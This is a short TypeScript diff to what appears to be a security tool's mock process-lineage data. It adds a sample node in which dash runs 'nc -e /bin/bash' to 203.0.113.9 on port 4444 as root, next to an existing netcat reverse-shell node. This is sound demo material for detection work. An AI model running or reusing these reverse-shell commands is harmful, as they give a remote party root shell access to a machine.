@@ -116,6 +116,11 @@ export function makeLineage(sensor: SensorDetail, nowMs: number, crowd: number):
       severity: "critical",
       exit_code: 1,
     }),
+    node("nc-sh", "bash", "/usr/bin/dash", "-c nc -e /bin/bash 203.0.113.9 4444", t + 40_000, t + 41_000, {
+      pid: 20_204,
+      uid: 0,
+      exit_code: null,
+    }),
     node("nc", "bash", "/usr/bin/nc", "-e /bin/bash 203.0.113.9 4444", t + 41_000, t + 57_800, {
       pid: 20_204,
       uid: 0,
